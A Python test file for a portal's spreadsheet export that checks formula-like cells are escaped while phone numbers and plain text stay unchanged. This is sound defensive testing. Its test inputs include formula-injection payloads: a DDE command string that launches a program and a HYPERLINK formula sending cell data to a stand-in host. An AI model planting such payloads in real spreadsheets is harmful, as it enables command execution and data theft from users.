import csv
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal.errors import DomainError
from portal.spreadsheets import CSV, XLSX, guarded, is_formula, read_xlsx, table_file, table_response, unguarded

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "−1",
    "  =1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+49-941-5680",
    "+49/941",
    "+49*2",
    "+A1",
    "+49 A1",
    "+4916099999999999=1",
]
TELEPHONES = ["+49 941 5680-0", "+49 (0)941 5680", "+49941568000", "+49 89/123456", "+43 1 2345", "0941 5680-0"]
PLAIN = ["Rückkehrberatung", "'s Zentrum", "a=b", "1-2", "", "العربية", "'", "''x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_of_csv_is_no_formula_and_comes_back(text):
    cell = next(csv.reader(io.StringIO(csv_of([[text]]), newline=""), strict=True))[0]

    assert is_formula(text)
    assert cell.startswith("'")
    assert unguarded(cell) == text


@pytest.mark.parametrize("text", [*TELEPHONES, *PLAIN])
def test_other_texts_and_telephone_numbers_are_left_as_they_are(text):
    assert guarded(text) == text
    assert unguarded(text) == text


@pytest.mark.parametrize("text", ["'=1", "''=1", "'+1-1", "'''@x"])
def test_a_text_that_looks_guarded_is_told_apart(text):
    assert guarded(text) != text
    assert unguarded(guarded(text)) == text


@given(st.text(max_size=40))
def test_every_text_comes_back_and_none_is_a_formula(text):
    assert unguarded(guarded(text)) == text
    assert not is_formula(guarded(text))


def test_numbers_stay_numbers():
    assert guarded(-1.5) == -1.5
    assert csv_of([[-1.5, 3, None]]).splitlines()[0] == "-1.5,3,"


@pytest.mark.parametrize("text", [*FORMULAS, *TELEPHONES, *PLAIN])
def test_a_cell_of_xlsx_is_text_and_holds_it_unchanged(text):
    with table_file(XLSX, ["=head"], [[text]]) as table:
        cells = [cell for row in load_workbook(table).worksheets[0].iter_rows() for cell in row]

    assert [cell.data_type for cell in cells if cell.value is not None] == ["s"] * (2 if text else 1)
    assert (cells[1].value or "").replace("\r", "\n") == text.replace("\r", "\n")


def test_numbers_in_xlsx_are_text_too():
    with table_file(XLSX, ["n"], [[-1.5], [3]]) as table:
        cells = [row[0] for row in load_workbook(table).worksheets[0].iter_rows()]

    assert [(cell.data_type, cell.value) for cell in cells] == [("s", "n"), ("s", "-1.5"), ("s", "3")]


def test_xlsx_is_read_back_as_it_was_written():
    with table_file(XLSX, ["a", "b"], [["=1+1", "x"], ["", "007"]]) as table:
        assert list(read_xlsx(table)) == [["a", "b"], ["=1+1", "x"], ["", "007"]]


@pytest.mark.parametrize("content", [b"", b"no table", b"PK\x03\x04broken"])
def test_a_file_that_is_no_xlsx_is_refused_in_one_sentence(content):
    with pytest.raises(DomainError):
        list(read_xlsx(io.BytesIO(content)))


def test_what_no_file_can_hold_is_left_out():
    assert csv_of([["a\x00b\ud800c\x08"]]) == "abc\r\n"


def test_a_text_too_long_for_a_cell_is_refused_instead_of_cut():
    with pytest.raises(DomainError):
        table_file(XLSX, ["a"], [["x" * 32_768]])


@pytest.mark.django_db  # closing an answer looks after the connections
def test_the_answer_is_a_download_that_spreadsheets_read_as_utf8():
    response = table_response("centres", CSV, ["name"], [["Zürich"]])

    content = b"".join(response.streaming_content)
    response.close()
    assert response["Content-Disposition"] == 'attachment; filename="centres.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert content == "\ufeffname\r\nZürich\r\n".encode()


def test_memory_does_not_hold_the_rows():
    """A table is written row by row: what makes the rows is asked for one at a time."""
    alive = []

    def rows():
        for number in range(3):
            alive.append(number)
            yield [str(number)]

    with table_file(CSV, ["n"], rows()) as table, tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        path.write_bytes(table.read())
        assert path.read_text(encoding="utf-8-sig").split() == ["n", "0", "1", "2"]
    assert alive == [0, 1, 2]


def csv_of(rows) -> str:
    with table_file(CSV, ["h"], rows) as table:
        return table.read().decode("utf-8-sig").partition("\r\n")[2]
